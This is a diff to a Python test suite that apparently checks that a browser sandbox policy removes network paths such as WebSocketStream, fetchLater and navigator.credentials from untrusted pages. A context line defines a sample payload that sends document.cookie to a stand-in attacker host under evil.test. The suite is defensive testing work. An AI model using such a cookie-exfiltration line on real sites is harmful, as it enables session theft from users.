@@ -17,9 +17,12 @@ fetch("/leads-away", {mode: "no-cors"}).catch(() => 0);
 """
 WAYS = ["SharedWorker", "RTCPeerConnection", "WebTransport", "WebSocketStream", "PaymentRequest"]
 WAYS += ["fetchLater"]
+OF_NAVIGATOR = ["credentials", "joinAdInterestGroup", "updateAdInterestGroups", "runAdAuction"]
 TAKEN = f"""
-fetch("/ran?" + {WAYS}.map((way) => typeof globalThis[way]) + typeof navigator.credentials);
+fetch("/ran?" + [...{WAYS}.map((way) => typeof globalThis[way]),
+  ...{OF_NAVIGATOR}.map((way) => typeof navigator[way])]);
 """
+GONE = ",".join(["undefined"] * len(WAYS + OF_NAVIGATOR))
 ASKS = "fetch('https://{tag}.evil.test/?' + document.cookie, {{mode: 'no-cors'}}).catch(() => 0);"
 
 
@@ -80,7 +83,7 @@ def test_a_framed_page_keeps_no_way_around(serve, path):
     """
     server, done, _ = audited(serve, page(script, "<iframe></iframe>"), elsewhere)
     assert_kept(server, done)
-    assert reports(server) <= {",".join(["undefined"] * len(WAYS)) + "undefined"}
+    assert reports(server) <= {GONE}
 
 
 @pytest.mark.parametrize(
@@ -126,7 +129,7 @@ def test_ways_that_ask_past_the_rules_are_gone(serve):
     script = script.replace("'/ran?'", f"'{ORIGIN}/ran?'")
     server, done, _ = audited(serve, page(script), elsewhere)
     assert_kept(server, done)
-    assert {"undefined", ",".join(["undefined"] * len(WAYS)) + "undefined"} == reports(server)
+    assert {"undefined", GONE} == reports(server)
 
 
 AWAY = "https://away.evil.test/"
